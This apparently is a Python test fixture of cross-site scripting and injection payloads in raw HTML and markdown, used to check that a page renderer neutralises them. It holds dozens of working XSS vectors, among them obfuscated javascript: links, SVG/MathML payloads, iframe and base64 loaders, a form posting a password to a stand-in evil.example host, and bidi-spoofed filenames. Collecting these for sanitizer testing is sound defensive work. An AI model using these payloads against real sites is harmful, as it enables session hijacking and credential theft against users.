"""Texts that would run, load, steer or deceive if a screen took them for more than text.

Each calls `ran()` where it would run a script, and names `evil.example` where it would load or lead elsewhere, so a
browser that defines the one and hears of every request to the other knows which of them had their way.
"""

from __future__ import annotations

# Every element a text may become on a screen, with the attributes it may carry.
MAY_COME_OUT: dict[str, set[str]] = {
    "a": {"href", "class", "title", "rel", "aria-label", "id", "data-gone"},
    "img": {"src", "alt", "title", "loading", "decoding"},
    "ol": {"start", "class", "dir"},
    "ul": {"dir"},
    "blockquote": {"dir"},
    "li": {"class", "id"},
    "pre": {"class", "tabindex", "role", "aria-label"},
    "span": {"class", "role", "aria-label"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "th": {"scope", "class"},
    "td": {"class"},
    "sup": {"class"},
    "section": {"class"},
    "hr": {"class"},
    "p": {"class"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
    **{tag: set() for tag in ("em", "strong", "s", "code", "table", "thead", "tbody", "tr", "br")},
}

PICTURE = "data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='ran()'/%3E"
ENCODED = "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg=="

# What raw HTML would do if it were served as it is: the second wall is shown with these alone.
MARKUP: tuple[str, ...] = (
    "<script>ran()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=module>import '//evil.example/m.js'; ran()</script>",
    "<script/src='https://evil.example/y.js'></script><noscript><p title='</noscript><script>ran()</script>'>",
    "<img src=x onerror=ran()>",
    "<img/src='https://evil.example/pixel.png'/onload=ran()>",
    "<svg onload=ran()><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:ran()'><text x=20 y=20>press</text></a></svg>",
    "<svg><image href='https://evil.example/svg.png'/><use href='https://evil.example/u.svg#a'/></svg>",
    "<math><maction actiontype='statusline#ran()' href='javascript:ran()'>x</maction></math>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=ran()></style></mglyph></math>",
    "<iframe src='javascript:ran()'></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src='https://evil.example/frame'></iframe>",
    f"<iframe src='{ENCODED}'></iframe>",
    "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    f'<object data="{PICTURE}"></object>',
    "<link rel=stylesheet href='//evil.example/x.css'><link rel=prefetch href='//evil.example/p'>",
    "<style>@import '//evil.example/i.css'; body { background: url(//evil.example/b.png) }</style>",
    "<p style=\"background:url('https://evil.example/s.png');position:fixed;inset:0\">over everything</p>",
    "<video src='https://evil.example/v.mp4' onerror=ran() autoplay></video>",
    "<audio src='https://evil.example/a.mp3' onerror=ran() autoplay></audio>",
    "<picture><source srcset='https://evil.example/srcset.png'><img src=y onerror=ran()></picture>",
    "<details open ontoggle=ran()><summary>x</summary></details>",
    "<input autofocus onfocus=ran()><select autofocus onfocus=ran()></select>",
    "<body onload=ran() onpageshow=ran()>",
    "<marquee onstart=ran()>x</marquee>",
    "<p tabindex=0 autofocus onfocus=ran() onanimationstart=ran()>x</p>",
    "<a href='javascript:ran()' id=press>press</a>",
    "<form action='https://evil.example/f' id=sent><input name=password value=secret><button>Go</button></form>",
    "<form><button formaction='javascript:ran()'>Go</button></form>",
    "<base href='https://evil.example/'><img src=based.png>",
    "<div hx-get='/api/v1/pages' hx-trigger=load hx-on::load='ran()'>x</div>",
    "<div data-hx-get='/api/v1/containers' data-hx-trigger=load>x</div>",
    "<div hx-get='https://evil.example/hx' hx-trigger='load, every 1s'>x</div>",
)

# What only the reader of markdown could be talked into.
MARKDOWN: tuple[str, ...] = (
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",  # no policy would stop this one
    "[x](javascript:ran())",
    "[x](JaVaScRiPt:ran())",
    "[x](java&#115;cript:ran())",
    "[x](&#x6A;&#97;vascript&colon;ran())",
    "[x](&NewLine;javascript:ran())",
    "[x](java&Tab;script:ran())",
    "[x](java\tscript:ran())",
    "[x](<java\nscript:ran()>)",
    "[x](\x01javascript:ran())",
    "[x](\x1fjavascript:ran())",
    "[x](&#0;javascript:ran())",
    "[x](&#1;javascript:ran())",
    "[x](%6A%61vascript:ran())",
    "[x](javascript%3Aran())",
    "[x](javascript&#x3a;ran())",
    "[x](javascript\\:ran())",
    "[x](\\javascript:ran())",
    "[x](\u2028javascript:ran())",
    "[x](\u200bjavascript:ran())",
    "[x](\u00a0javascript:ran())",
    "[x](feed:javascript:ran())",
    "[x](view-source:javascript:ran())",
    "[x](jar:https://evil.example!/x)",
    "[x](vbscript:ran())",
    "[x](livescript:ran())",
    f"[x]({ENCODED})",
    f"![x]({ENCODED})",
    f"![x](<{PICTURE}>)",
    "[x](blob:https://evil.example/1) [y](filesystem:https://evil.example/t) [z](file:///etc/passwd)",
    "[x](//evil.example/x) [y](/\\evil.example) [z](\\\\evil.example)",
    "<javascript:ran()> <JAVASCRIPT:ran()> <data:text/html,x>",
    "javascript://evil.example/%0aran()",
    "[x]\n\n[x]: javascript:ran()",
    "[a]\n\n[a]: <javascript:ran()> 'title'\n[b]: data:text/html,x\n\n![b] [b]",
    "[x]: https://evil.example/ '\"><img src=x onerror=ran()>'\n\n[x] ![x]",
    "[javascript:ran()]: /company\n\n[javascript:ran()] [ok][javascript:ran()]",
    "![x](javascript:ran())",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png 'x')",
    "![x](/sign-out) ![y](/api/v1/attachments/1/../../../sign-out) ![z](/attachments/1?next=//evil.example)",
    '![" onerror="ran()](/attachments/1)',
    "![x](/attachments/1 '\" onerror=\"ran()')",
    "![<img src=x onerror=ran()>](/attachments/1)",
    '[x](https://evil.example/a "\\" onmouseover=\\"ran() autofocus onfocus=ran()")',
    "[x](https://evil.example/\"onmouseover='ran()')",
    "<https://evil.example/\"onmouseover=ran()//>",
    "https://evil.example/\"onmouseover=ran() www.evil.example/'><script>ran()</script>",
    "a@evil.example\"onmouseover=ran()",
    "[![x](javascript:ran())](javascript:ran())",
    "[<script>ran()</script>](https://evil.example/)",
    "**_~~[x](javascript:ran())~~_**",
    '```html" onmouseover="ran()\n<img src=x onerror=ran()>\n```',
    "```js hx-get=/company onload=ran()\n</code></pre><script>ran()</script>\n```",
    "```<script>ran()</script>\nx\n```",
    "```diff\n+<script>ran()</script>\n```\n\n```xml\n<!--\n```\n\n<img src=x onerror=ran()>",
    "``<script>ran()</script>`` and `</code><script>ran()</script>`",
    "    </code></pre><script>ran()</script>",
    "# <script>ran()</script>",
    '# " onmouseover="ran()" id="comments',
    "# main {#main .x onclick=ran()}\n\n# constructor\n\n# __proto__\n\n# location\n\n# comments",
    "| <script>ran()</script> | b |\n|:-:|---|\n| <img src=x onerror=ran()> | [x](javascript:ran()) |",
    '| a |\n|:-:" onmouseover="ran()|\n| b |',
    "[^<script>ran()</script>]\n\n[^<script>ran()</script>]: <img src=x onerror=ran()>",
    'x[^" onmouseover="ran()] y[^__proto__]\n\n[^" onmouseover="ran()]: [x](javascript:ran())\n[^__proto__]: z',
    "^[<script>ran()</script> [x](javascript:ran())]",
    "- [ ] <input type=checkbox onclick=ran() autofocus onfocus=ran()>\n- [x] [x](javascript:ran())",
    "> <script>ran()</script>\n> - # <img src=x onerror=ran()>\n>   1. [x](javascript:ran())",
    "---\ntitle: </code></pre><script>ran()</script>\nx: <img src=x onerror=ran()>\n---\n",
    "<!-- --><script>ran()</script><!-- --!><img src=x onerror=ran()> -->",
    "<![CDATA[<script>ran()</script>]]><?php ran() ?><!DOCTYPE html [<!ENTITY x 'ran()'>]>",
    "&lt;script&gt;ran()&lt;/script&gt; &#60;img src=x onerror=ran()&#62;",
    "\\<script>ran()\\</script> \\&lt;script> <scr<script>ipt>ran()</scr</script>ipt>",
    "</div></article></main><script>ran()</script><textarea></title></style>",
    "</textarea><script>ran()</script><!--",
    "{{ ran() }} {% raw %} ${ran()} #{ran()} <%= ran() %> __html",
    "\u202e<script>ran()</script>\u202c \u2066[x](javascript:ran())\u2069 \u202d\u202e",
    "`access \u202e\u2066// only for admins\u2069 \u2066` [\u202egnp.exe\u202c](https://evil.example/)",
    "<a id=comments name=body href=x>x</a><form id=editor name=cookie><input name=body></form>",
    "<img name=getElementById><object id=forms></object><embed name=cookie>",
    "@ada-marsh<script>ran()</script> @\"onmouseover=ran() [[<script>ran()</script>]] [[x|javascript:ran()]]",
    "[x](/pages/1\"onmouseover=ran()) [y](#/knowledge/pages/1' onload='ran())",
    "[z](/pages/1?x=<script>#<script>ran()</script>)",
)  # fmt: skip

BODIES = MARKUP + MARKDOWN


def gathered(size: int = 10) -> list[str]:
    """All bodies in few texts; what would change the meaning of its neighbours stands alone."""
    alone = [body for body in BODIES if "]: " in body or body.startswith("---")]
    rest = [body for body in BODIES if body not in alone]
    return alone + ["\n\n***\n\n".join(rest[at : at + size]) for at in range(0, len(rest), size)]


# One line each: titles, labels, notes on a change, names of files.
LINES: tuple[str, ...] = (
    "<script>ran()</script>",
    "</title><script>ran()</script>",
    "<img src=x onerror=ran()>",
    '" autofocus onfocus="ran()',
    "' onmouseover='ran()",
    "javascript:ran()",
    "{{ ran() }}{% raw %}",
    "](javascript:ran()) [x",
    "`</textarea><svg onload=ran()>`",
    "undo:1 &quot;&gt;&lt;script&gt;ran()",
)
